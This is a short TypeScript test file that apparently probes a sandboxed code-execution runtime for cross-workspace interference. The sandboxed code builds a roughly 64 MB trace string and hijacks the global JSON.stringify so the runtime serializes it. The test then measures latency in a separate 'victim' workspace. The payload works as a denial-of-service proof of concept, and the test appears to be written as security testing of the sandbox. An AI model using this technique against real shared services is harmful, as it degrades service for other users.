import { afterAll, describe, expect, it } from "vitest";
import { chain, run, sandbox, text } from "../runtime/helpers";
afterAll(() => sandbox.dispose());
const code = (source: string) => chain([{ id: "c", type: "code", params: { source } }], "{{ steps.c }}");

describe("scratch", () => {
  it("trace amplification vs other workspace", async () => {
    const attack = run(code(`
      let s = '{"nodeId":"n","type":"t","status":"ok","startedAt":0},';
      while (s.length < 2 ** 26) s = s + s;
      const json = '{"trace":[' + s + '{"nodeId":"n","type":"t","status":"ok","startedAt":0}],"busy":false}';
      const orig = JSON.stringify;
      JSON.stringify = function (v) { if (v && v.trace && v.busy !== undefined) { JSON.stringify = orig; return json; } return orig.apply(JSON, arguments); };
      return 1;
    `), {}, { callLimits: { timeoutMs: 20000 } });
    const victimDoc = code("return 1");
    const lat: number[] = [];
    let done = false;
    attack.then(() => (done = true));
    const t0 = Date.now();
    while (!done) { const t = Date.now(); await run(victimDoc, {}, { workspaceId: "victim" }); lat.push(Date.now() - t); }
    console.log("attack ms", Date.now() - t0, "victim calls", lat.length, "max latency", Math.max(...lat), "sorted", lat.sort((a,b)=>b-a).slice(0,5));
  });
});
